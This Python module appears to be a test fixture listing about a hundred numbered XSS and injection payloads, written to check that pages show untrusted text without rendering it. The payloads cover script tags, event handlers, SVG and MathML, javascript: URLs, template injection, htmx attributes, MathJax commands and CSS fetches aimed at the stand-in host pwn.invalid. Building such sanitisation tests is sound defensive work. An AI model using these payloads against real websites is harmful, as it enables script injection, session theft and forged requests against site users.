"""A hundred texts that would run as code, make elements or fetch something, if a page took them for markup.

CALL stands for a call of a function that each tab of the test has and that notes the payload's number, AWAY for an
address that no page may ask. Elements that a payload would make have an attribute `pwn`. Each begins or ends with its
own mark, so that a page which shows the text can be told from one that does not.
"""

from __future__ import annotations

AWAY = "//pwn.invalid/"

SCRIPTS = (
    "<script pwn>CALL</script>",
    "</script><script pwn>CALL</script>",
    "<ScRiPt pwn>CALL</sCrIpT >",
    "<script pwn src=AWAY></script>",
    "<script/pwn src=AWAY></script>",
    "<script pwn type=module>CALL</script>",
    "<script pwn src=data:text/javascript,CALL></script>",
    "<<script pwn>CALL//<</script>",
    "<script pwn\n>CALL</script\n>",
    "<noscript><p title='</noscript><script pwn>CALL</script>'>",
    "<template pwn><script>CALL</script></template>",
    "--><script pwn>CALL</script><!--",
    "]]><script pwn>CALL</script>",
    "</title><script pwn>CALL</script>",
    "</textarea><script pwn>CALL</script>",
    "</style><script pwn>CALL</script>",
    "</option></select><script pwn>CALL</script>",
)
HANDLERS = (
    "<img pwn src=x onerror=CALL>",
    "<img pwn src=AWAY>",
    "<img/pwn/src=x/onerror=CALL>",
    '"><img pwn src=x onerror=CALL>',
    "'><img pwn src=x onerror=CALL>",
    '" autofocus onfocus=CALL pwn="',
    "' autofocus onfocus=CALL pwn='",
    "` onmouseover=CALL pwn=`",
    "<body pwn onload=CALL>",
    "<input pwn autofocus onfocus=CALL>",
    "<details pwn open ontoggle=CALL><summary>x</summary></details>",
    "<video pwn><source onerror=CALL></video>",
    "<audio pwn src=x onerror=CALL></audio>",
    "<marquee pwn onstart=CALL>x</marquee>",
    "<iframe pwn src=javascript:CALL></iframe>",
    '<iframe pwn srcdoc="<script>parent.CALL</script>"></iframe>',
    "<object pwn data=javascript:CALL></object>",
    "<embed pwn src=AWAY>",
    "<p pwn onanimationstart=CALL class=told>x</p>",
    "<div pwn onpointerover=CALL>x</div>",
    "<button pwn popovertarget=keys onclick=CALL>x</button>",
    "<select pwn autofocus onfocus=CALL><option>x</select>",
    "<table pwn background=AWAY><tr><td>x</table>",
)
FOREIGN = (
    "<svg pwn onload=CALL></svg>",
    "<svg pwn><script>CALL</script></svg>",
    "<svg pwn><script href=data:text/javascript,CALL /></svg>",
    "<svg pwn><animate onbegin=CALL attributeName=x dur=1s></svg>",
    "<svg pwn><a href=javascript:CALL><text y=9>x</text></a></svg>",
    "<svg pwn><use href=AWAY#x></use></svg>",
    "<svg pwn><image href=AWAY /></svg>",
    "<svg pwn><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
    "<svg pwn><style><img title='</style><img src=x onerror=CALL>'></svg>",
    "<svg pwn><set attributeName=href to=javascript:CALL /></svg>",
    "<math pwn><mtext><img src=x onerror=CALL></mtext></math>",
    "<math pwn href=javascript:CALL>x</math>",
    "<math pwn><maction actiontype=statusline xlink:href=javascript:CALL>x</maction></math>",
    "<math pwn><annotation-xml encoding=text/html><script>CALL</script></annotation-xml></math>",
    "<math pwn><mglyph><style></math><img src=x onerror=CALL>",
)
URLS = (
    "<a pwn href=javascript:CALL>x</a>",
    "<a pwn href='java\tscript:CALL'>x</a>",
    "<a pwn href=&#106;avascript:CALL>x</a>",
    "<a pwn href=AWAY ping=AWAY>x</a>",
    "javascript:CALL//pwn",
    "data:text/html,<script pwn>CALL</script>",
    "<form pwn action=javascript:CALL><button>x</button></form>",
    "<form pwn action=AWAY><input name=csrf></form>",
    "<button pwn formaction=javascript:CALL form=f>x</button>",
    "<base pwn href=AWAY>",
    "<link pwn rel=stylesheet href=AWAY>",
    "<link pwn rel=prefetch href=AWAY>",
    "<meta pwn http-equiv=refresh content='0;url=AWAY'>",
    "<meta pwn http-equiv=Content-Security-Policy content='script-src *'>",
)
TEMPLATES = (
    "{{ pwn.__class__ }}{{ 7 * 7 }} CALL",
    "{% for pwn in ().__class__.__mro__ %}CALL{% endfor %}",
    "{# pwn #}${CALL}#{CALL}",
    "{{ '<img pwn src=x onerror=CALL>' | safe }}",
    "<%= CALL %><?pwn CALL ?>",
    "${`${CALL}`} pwn",
    "{{constructor.constructor('CALL')()}} pwn",
    "%3Cscript pwn%3ECALL%3C/script%3E",
    "&lt;img pwn src=x onerror=CALL&gt;",
    r"\u003cimg pwn src=x onerror=CALL\u003e",
)
HTMX = (
    "<div pwn hx-get=/workers hx-trigger=load>x</div>",
    "<div pwn data-hx-get=/workers data-hx-trigger=load>x</div>",
    "<div pwn hx-on:load=CALL hx-nonce=x>x</div>",
    "<div pwn hx-trigger='load[CALL]' hx-get=AWAY>x</div>",
    '" hx-get="/workers" hx-trigger="load" pwn="',
    "<div pwn hx-sse:connect=AWAY>x</div>",
    "<div pwn hx-vals='js:{a: CALL}' hx-post=/ hx-trigger=load>x</div>",
    "<hx-partial pwn hx-target=body>CALL</hx-partial>",
)
MATHS = (
    r"$\href{javascript:CALL}{pwn}$",
    r"$\url{javascript:CALL}$ pwn",
    r"$$\htmlData{pwn=1, hx-get=/workers}{x}$$",
    r"\(\htmlId{pwn}{x}\htmlClass{told}{x}\)",
    r"\[\htmlStyle{background: url(AWAY)}{pwn}\]",
    r"$\includegraphics[alt=pwn]{AWAY}$",
    r"$\text{<img pwn src=x onerror=CALL>}$",
    r"\boxed{<img pwn src=x onerror=CALL>}",
    r"$\def\pwn{\pwn\pwn}\pwn$ <b pwn>",
)
STYLES = (
    "<style pwn>body{background:url(AWAY)}</style>",
    "<p pwn style='background:url(AWAY)'>x</p>",
    "<style pwn>@import 'AWAY';</style>",
)
ODD = "\u202e>TPIRCS<\u202c <\u200bscript pwn>CALL ＜img pwn onerror=CALL＞ \x1b]0;pwn\x07\x85\ufeff"
TEMPLATED = (*SCRIPTS, *HANDLERS, *FOREIGN, *URLS, *TEMPLATES, *HTMX, *MATHS, *STYLES, ODD)


def mark(number: int) -> str:
    """What the payload of this number says of itself; no other's mark begins with it."""
    return f"pwned{number:03}"


def payload(number: int) -> str:
    said = TEMPLATED[number].replace("CALL", f"pwn({number})").replace("AWAY", f"{AWAY}{number}")
    return f"{mark(number)} {said}"


PAYLOADS = tuple(payload(number) for number in range(len(TEMPLATED)))
